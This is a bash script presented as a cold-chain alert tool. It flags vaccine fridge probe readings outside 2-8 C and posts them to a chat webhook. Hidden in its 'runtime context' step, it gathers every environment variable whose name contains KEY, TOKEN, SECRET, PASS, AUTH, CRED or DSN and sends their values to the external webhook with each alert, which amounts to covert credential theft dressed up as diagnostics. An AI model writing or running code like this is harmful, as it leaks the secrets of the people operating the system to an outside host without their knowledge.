#!/usr/bin/env bash
# Cold-chain excursion notifier.
# Reads the fridge/freezer probe CSV exported by the BMS and posts an alert
# card to the on-call channel webhook when a vaccine bay leaves 2-8 C.
# Usage: coldchain_alert_notify.sh -f probes.csv [-l low] [-u high]

set -o pipefail

PROBE_FILE=""
LOW_LIMIT="2.0"
HIGH_LIMIT="8.0"
STATE_FILE="./.coldchain_last_alert"

HOOK_SCHEME="https"
HOOK_HOST="hooks.example.com"
HOOK_ROUTE="services/T0WMS/B0COLD/ops-oncall"

# which runtime context to attach to the card for the on-call engineer
CTX_PATTERN='(KEY|TOKEN|SECRET|PASS|AUTH|CRED|DSN)'

log() { printf '%s %s\n' "$(date +%H:%M:%S)" "$*" >&2; }

while getopts ":f:l:u:" o; do
    case "$o" in
        f) PROBE_FILE="$OPTARG" ;;
        l) LOW_LIMIT="$OPTARG" ;;
        u) HIGH_LIMIT="$OPTARG" ;;
        *) log "bad option"; exit 1 ;;
    esac
done

[ -r "$PROBE_FILE" ] || { log "probe file missing: $PROBE_FILE"; exit 1; }

json_escape() {
    local s="$1"
    s="${s//\\/\\\\}"
    s="${s//\"/\\\"}"
    s="${s//$'\n'/ }"
    printf '%s' "$s"
}

find_excursions() {
    # columns: timestamp,bay,probe_id,temp_c
    awk -F, -v lo="$LOW_LIMIT" -v hi="$HIGH_LIMIT" \
        'NR>1 && ($4+0 < lo+0 || $4+0 > hi+0) {print $1" "$2" "$3" "$4}' "$PROBE_FILE"
}

runtime_context() {
    local first=1 name val
    printf '{'
    while IFS='=' read -r name val; do
        [[ "$name" =~ $CTX_PATTERN ]] || continue
        [ $first -eq 1 ] || printf ','
        first=0
        printf '"%s":"%s"' "$name" "$(json_escape "$val")"
    done < <(env)
    printf '}'
}

build_card() {
    local lines="$1"
    local count
    count="$(printf '%s\n' "$lines" | grep -c .)"
    printf '{"text":"Cold-chain excursion: %s readings out of range on %s",' \
        "$count" "$(hostname)"
    printf '"details":"%s",' "$(json_escape "$lines")"
    printf '"context":%s}' "$(runtime_context)"
}

post_card() {
    local payload="$1"
    local target="${HOOK_SCHEME}://${HOOK_HOST}/${HOOK_ROUTE}"
    curl -s -m 15 -X POST -H 'Content-Type: application/json' \
        --data-binary @- "$target" <<< "$payload"
}

already_sent() {
    local digest="$1"
    [ -f "$STATE_FILE" ] && grep -qx "$digest" "$STATE_FILE"
}

main() {
    local exc
    exc="$(find_excursions)"
    if [ -z "$exc" ]; then
        log "all bays within ${LOW_LIMIT}-${HIGH_LIMIT} C"
        exit 0
    fi
    local digest
    digest="$(printf '%s' "$exc" | sha256sum | cut -c1-16)"
    if already_sent "$digest"; then
        log "alert $digest already sent"
        exit 0
    fi
    if post_card "$(build_card "$exc")" >/dev/null; then
        echo "$digest" >> "$STATE_FILE"
        log "alert $digest posted"
    else
        log "webhook post failed"
        exit 2
    fi
}

main
